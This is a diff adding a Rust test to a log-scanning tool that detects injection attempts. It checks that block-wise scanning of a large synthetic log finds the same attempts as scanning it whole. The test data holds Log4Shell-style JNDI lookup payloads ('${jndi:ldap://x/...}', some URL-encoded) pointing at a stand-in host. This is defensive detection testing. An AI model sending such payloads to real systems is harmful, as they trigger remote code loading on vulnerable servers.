@@ -198,6 +198,34 @@ fn one_document_a_line_with_or_without_the_option() {
     assert_eq!(told.stderr, "5 lines, 3 effective, 1 attempt\n");
 }
 
+/// Goal: what is passed over in blocks changes no answer. Method: a log of several blocks, with
+/// attempts on its first and last line, at the ends of blocks and between bytes that are not UTF-8.
+#[test]
+fn attempts_alone_are_those_of_the_whole_log() {
+    let place = Place::new();
+    let mut log = b"${jndi:ldap://x/first}\n".to_vec();
+    for number in 0..9_000_u32 {
+        match number {
+            n if n % 1_500 == 7 => log.extend(format!("%24%7Bjndi:ldap://x/{n}%7D\n").bytes()),
+            n if n % 1_500 == 8 => log.extend(b"caf\xe9 Basic\n"),
+            n => log.extend(format!("GET /articles/{n}?q=caf%C3%A9&n={n} Mac OS X\r\n").bytes()),
+        }
+    }
+    log.extend(b"${jndi:ldap://x/last}");
+    assert!(log.len() > 300_000, "{}", log.len());
+    place.write("log", log);
+    let rows = |arguments: &[&str]| {
+        let told = place.expect(0, arguments);
+        let rows: Vec<String> = told.stdout.lines().map(str::to_owned).collect();
+        (rows, told.stderr)
+    };
+    let (mut all, summary) = rows(&["watch", "decode", "log"]);
+    all.retain(|row| !row.contains(r#""verdict":"benign""#));
+    assert_eq!(all.len(), 8);
+    assert!(all[7].contains(r#""line":9002,"#), "{}", all[7]);
+    assert_eq!(rows(&["watch", "decode", "--attempts", "log"]), (all, summary));
+}
+
 /// The message itself is not decoded; a line of the log is.
 #[test]
 fn exact_means_as_the_library_is_given_it() {
